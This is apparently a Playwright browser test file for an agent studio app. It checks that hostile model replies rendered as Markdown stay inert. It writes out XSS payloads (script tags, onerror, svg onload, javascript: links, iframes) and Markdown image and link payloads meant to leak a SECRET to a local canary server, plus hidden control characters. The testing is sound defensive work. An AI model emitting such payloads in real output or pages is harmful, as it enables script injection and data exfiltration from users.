"""T46–T48 against the running studio: hostile model output through Streamlit's real Markdown renderer in Chromium.

Each payload is the reply of a scripted model in a team saved into the server's STUDIO_HOME; the test starts the team
from the Playground like a person would, waits for the reply to render, then inspects the DOM (no marker attribute,
no live link, image, frame, form or style from the payload), the canary HTTP server's request log (T47: empty,
while a positive control proves the browser could reach it), and the page's size and responsiveness (T48).
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from studio.catalog import save_bundle
from studio.spec import bundle_from_data
from studio.store import list_runs, open_store
from tests.browser.conftest import wait_for_app

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

END = "END-OF-PAYLOAD"
TEN_MB = 10 * 1024 * 1024


class Canary:
    """A tiny HTTP server on 127.0.0.1:<free port> that records every request it receives."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                canary.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def echo_team(name: str, *replies: str) -> dict:
    return {
        "schema_version": 2,
        "kind": "bundle",
        "team": {"name": name, "kind": "two_agent", "agents": ["asker", "echo"], "max_turns": len(replies)},
        "agents": [
            {"name": "asker", "kind": "user_proxy", "human_input_mode": "NEVER"},
            {"name": "echo", "kind": "assistant", "model": f"{name}-model"},
        ],
        "models": [{"name": f"{name}-model", "provider": "scripted", "model": "scripted", "replies": list(replies)}],
    }


def xss_payload() -> str:
    return "\n\n".join(
        [
            "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
            "<script>document.body.setAttribute('data-pwned','script')</script>",
            "<svg onload=\"document.body.setAttribute('data-pwned','svg')\"></svg>",
            "[click me](javascript:document.body.setAttribute('data-pwned','link'))",
            "[entity link](javascript&#58;document.body.setAttribute('data-pwned','entity'))",
            "&lt;script&gt;document.body.setAttribute('data-pwned','entities')&lt;/script&gt;",
            "<style>h1{display:none}</style><form action='http://127.0.0.1:1/'><input name=q></form>",
            "<iframe src=\"javascript:parent.document.body.setAttribute('data-pwned','iframe')\"></iframe>",
            END,
        ]
    )


def exfil_payload(url: str) -> str:
    return "\n\n".join(
        [
            f"![]({url}/md-image?s=SECRET)",
            f'<img src="{url}/html-image?s=SECRET">',
            f"![logo][ref]\n\n[ref]: {url}/reference-image?s=SECRET",
            f"| a | b |\n|---|---|\n| `x | ![]({url}/table-cell?s=SECRET)` |",
            f"[![inner]({url}/image-in-link?s=SECRET)]({url}/link)",
            f"$\\includegraphics{{{url}/katex-graphics}}$ and $\\href{{{url}/katex-href}}{{x}}$",
            f"<{url}/autolink?s=SECRET> {url}/bare-url?s=SECRET [link]({url}/link?s=SECRET)",
            # last: our reading of this list makes the rest of the message one code block (inert either way)
            f"- ```\n  a\n  ```\n![]({url}/after-list-fence?s=SECRET)",
            END,
        ]
    )


def hidden_payload() -> str:
    code = "\n".join(f"print({i})" for i in range(5000))
    return (
        "\x1b[31mred alert\x1b[0m | \u202eevil.exe\u202c | zero\u200bwidth | tag\U000e0041\U000e0042 | bell\x07\n\n"
        f"```python\n{code}\n```\n\n{END}"
    )


@pytest.fixture(scope="module")
def canary():
    server = Canary()
    yield server
    server.close()


@pytest.fixture(scope="module")
def teams(studio_server_info, canary):
    """Save the payload teams into the running studio's store (it reads the store on every page run)."""
    store = open_store(home=studio_server_info.home)
    huge = ("ten megabytes of words " * (TEN_MB // 23 + 1))[:TEN_MB]
    for data in (
        echo_team("t46-xss", xss_payload()),
        echo_team("t47-exfil", exfil_payload(canary.url)),
        echo_team("t48-hidden", hidden_payload(), huge),
    ):
        bundle, _ = bundle_from_data(data)
        save_bundle(bundle, store=store)
    store.engine.dispose()
    return studio_server_info.url


def run_in_playground(page, url: str, team: str, task: str, *, until: str = "run completed", timeout: float = 60_000):
    """New session → pick `team` → type `task` → Run, then wait until `until` shows (the run ended)."""
    page.goto(url + "/")
    wait_for_app(page)
    page.get_by_role("button", name="New session").click()
    page.get_by_role("heading", name="New conversation").wait_for()
    wait_for_app(page)
    page.get_by_role("combobox", name="Team").click()
    page.get_by_role("option", name=team, exact=True).click()
    expect(page.get_by_role("combobox", name="Team")).to_have_value(team)
    wait_for_app(page)
    form = page.locator('[data-testid="stForm"]').first
    form.get_by_label("Task").fill(task)
    form.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text(until).first.wait_for(timeout=timeout)
    wait_for_app(page)


def payload_bubble(page):
    return page.locator('[data-testid="stChatMessage"]', has_text=END).last


def test_t46_html_script_and_javascript_links_stay_inert(page, teams, artifacts_dir: Path):
    run_in_playground(page, teams, "t46-xss", "Show me the payload")
    bubble = payload_bubble(page)
    text = bubble.inner_text()
    assert "<img src=x onerror=" in text and "<script>" in text  # shown as text, not interpreted
    assert "&lt;script&gt;" in text  # entities stay literal too
    for tag in ("a", "img", "svg", "iframe", "form", "style", "script", "input"):
        assert bubble.locator(tag).count() == 0, tag
    page.get_by_text("click me", exact=True).click()  # the former javascript: link is plain text now
    page.get_by_text("entity link", exact=True).click()
    time.sleep(0.5)
    assert page.evaluate("document.body.getAttribute('data-pwned')") is None
    assert page.locator('a[href^="javascript:"]').count() == 0
    assert page.locator("h1").first.is_visible()  # the payload's <style> did not apply
    page.screenshot(path=str(artifacts_dir / "security-t46.png"), full_page=True)


def test_t47_images_and_links_to_other_hosts_fetch_nothing(
    page, teams, canary, studio_server_info, artifacts_dir: Path
):
    canary.requests.clear()
    # The task is the human's, but it is shown in the session list, headings and the run picker: same rules.
    task = f"Show me the payload ![]({canary.url}/task-image?s=SECRET)"
    run_in_playground(page, teams, "t47-exfil", task)
    bubble = payload_bubble(page)
    time.sleep(2.0)  # give any lazy image or prefetch the time to fire
    assert canary.requests == []
    assert page.locator(f'img[src*="{canary.port}"]').count() == 0
    assert bubble.locator("a").count() == 0
    assert bubble.inner_text().count(f"[image removed: 127.0.0.1:{canary.port}]") >= 3
    assert f"{canary.url}/bare-url?s=SECRET" in bubble.inner_text()  # a bare URL is shown as text, not a link
    page.screenshot(path=str(artifacts_dir / "security-t47.png"), full_page=True)

    # The same run in Replay: timeline window, inspector JSON, run picker, costs and speakers views.
    store = open_store(home=studio_server_info.home)
    run = next(r for r in list_runs(store=store, limit=20) if r.team_name == "t47-exfil")
    store.engine.dispose()
    page.goto(f"{teams}/replay?run={run.id}")
    wait_for_app(page)
    page.get_by_role("button", name="Last").click()
    wait_for_app(page)
    page.get_by_role("button", name="Previous").click()  # the payload message, in the inspector too
    wait_for_app(page)
    expect(page.locator('[data-testid="stJson"]').first).to_contain_text("after-list-fence")
    page.get_by_role("combobox", name="Run").click()  # the picker's options show the task
    page.keyboard.press("Escape")
    for view in ("Model calls", "Speakers", "Export"):
        page.locator('[data-testid="stRadio"]').get_by_text(view, exact=True).click()
        wait_for_app(page)
    time.sleep(1.5)
    assert canary.requests == []
    assert page.locator(f'img[src*="{canary.port}"]').count() == 0

    # Positive control: the browser can reach the canary, so the empty log above means something.
    page.evaluate(f"fetch('{canary.url}/control').catch(() => null)")
    deadline = time.monotonic() + 5
    while not canary.requests and time.monotonic() < deadline:
        time.sleep(0.05)
    assert canary.requests == ["/control"]


def test_t48_controls_visible_huge_output_capped_and_page_responsive(page, teams, artifacts_dir: Path):
    run_in_playground(page, teams, "t48-hidden", "Show me the hidden characters", timeout=90_000)
    body = page.locator("body").inner_text()
    assert "␛[31mred alert␛[0m" in body and "⟨RLO⟩evil.exe⟨PDF⟩" in body and "zero⟨ZWSP⟩width" in body
    assert "⟨U+E0041⟩⟨U+E0042⟩" in body and "bell␇" in body
    assert not any(ch in body for ch in ("\x1b", "\u202e", "\u200b", "\U000e0041", "\x07"))
    # the 5,000-line block shows at most the capped number of lines, with a marker
    code = page.locator('[data-testid="stChatMessage"] [data-testid="stCode"]').first.inner_text()
    assert "print(0)" in code and "print(4999)" not in code and code.count("\n") < 450
    assert "of 5,006 lines" in body
    # the 10 MB message is cut; the page holds kilobytes, not megabytes
    assert "of 10,485,760 characters" in body
    assert page.evaluate("document.body.innerText.length") < 200_000
    # responsive: a widget click is handled promptly, and the full text is one download away
    started = time.monotonic()
    page.get_by_text("Show model calls and speaker selections").click()
    page.get_by_text("called scripted").first.wait_for(timeout=15_000)
    assert time.monotonic() - started < 15
    with page.expect_download() as info:
        page.get_by_role("button", name="Download the full text").last.click()
    assert Path(info.value.path()).stat().st_size == TEN_MB
    page.screenshot(path=str(artifacts_dir / "security-t48.png"))
